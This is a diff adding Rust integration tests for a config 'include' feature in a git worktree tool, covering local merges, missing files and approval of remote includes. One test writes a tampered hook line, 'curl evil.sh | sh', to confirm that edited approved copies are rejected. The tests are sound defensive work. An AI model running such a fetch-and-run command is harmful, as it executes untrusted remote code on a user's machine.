@@ -0,0 +1,122 @@
+//! Integration tests for `include` in project config
+
+use crate::common::{TestRepo, make_snapshot_cmd, repo};
+use insta_cmd::assert_cmd_snapshot;
+use rstest::rstest;
+use std::fs;
+use std::io::{Read, Write};
+use std::net::TcpListener;
+use worktrunk::config::command_hash;
+
+const TEAM_CONFIG: &str = r#"pre-start = "npm ci"
+
+[post-start]
+server = "npm run dev"
+"#;
+
+/// Serve `body` over HTTP on localhost for a single request; returns the URL.
+fn serve_once(body: &'static str) -> String {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let url = format!("http://{}/wt-team.toml", listener.local_addr().unwrap());
+    std::thread::spawn(move || {
+        let (mut stream, _) = listener.accept().unwrap();
+        let mut request = [0; 1024];
+        let _ = stream.read(&mut request);
+        let _ = write!(
+            stream,
+            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+            body.len()
+        );
+    });
+    url
+}
+
+fn hook_show(repo: &TestRepo) -> std::process::Output {
+    repo.wt_command()
+        .args(["hook", "show"])
+        .env_remove("CLICOLOR_FORCE")
+        .env("NO_COLOR", "1")
+        .output()
+        .unwrap()
+}
+
+/// Local includes layer under the project file; tables merge key by key.
+#[rstest]
+fn test_local_include_merges(repo: TestRepo) {
+    fs::create_dir_all(repo.root_path().join(".config")).unwrap();
+    fs::write(repo.root_path().join(".config/team.toml"), TEAM_CONFIG).unwrap();
+    repo.write_project_config(
+        r#"include = ["team.toml"]
+
+[post-start]
+docs = "mkdocs serve"
+"#,
+    );
+
+    assert_cmd_snapshot!(make_snapshot_cmd(&repo, "hook", &["show"], None));
+}
+
+#[rstest]
+fn test_include_missing_file(repo: TestRepo) {
+    repo.write_project_config(r#"include = ["missing.toml"]"#);
+
+    assert_cmd_snapshot!(make_snapshot_cmd(&repo, "hook", &["show"], None));
+}
+
+/// A remote include is skipped, with a warning, until approved.
+#[rstest]
+fn test_remote_include_unapproved(repo: TestRepo) {
+    repo.write_project_config(
+        r#"include = ["https://example.com/wt-team.toml"]
+pre-merge = "cargo test"
+"#,
+    );
+
+    assert_cmd_snapshot!(make_snapshot_cmd(&repo, "hook", &["show"], None));
+}
+
+/// `wt config approvals add` fetches a remote include and stores the
+/// approved copy, which later loads use.
+#[rstest]
+fn test_remote_include_approval(repo: TestRepo) {
+    let url = serve_once(TEAM_CONFIG);
+    repo.write_project_config(&format!("include = [\"{url}\"]\n"));
+
+    let output = repo
+        .wt_command()
+        .args(["config", "approvals", "add"])
+        .env("WORKTRUNK_APPROVE", "all")
+        .env_remove("http_proxy")
+        .env_remove("HTTP_PROXY")
+        .env_remove("all_proxy")
+        .env_remove("ALL_PROXY")
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{output:?}");
+
+    let hash = command_hash(TEAM_CONFIG);
+    let approvals = fs::read_to_string(repo.test_approvals_path()).unwrap();
+    assert!(
+        approvals.contains(&format!("\"{url}\" = \"{hash}\"")),
+        "{approvals}"
+    );
+    let stored = repo
+        .root_path()
+        .join(format!(".git/wt/includes/{hash}.toml"));
+    assert_eq!(fs::read_to_string(&stored).unwrap(), TEAM_CONFIG);
+
+    // Later loads read the stored copy, without the network
+    let output = hook_show(&repo);
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(stdout.contains("npm run dev"), "{stdout}");
+
+    // An edited copy no longer counts
+    fs::write(&stored, "pre-start = \"curl evil.sh | sh\"\n").unwrap();
+    let output = hook_show(&repo);
+    let stdout = String::from_utf8_lossy(&output.stdout);
+    assert!(!stdout.contains("evil"), "{stdout}");
+    assert!(
+        String::from_utf8_lossy(&output.stderr).contains("isn't approved"),
+        "{output:?}"
+    );
+}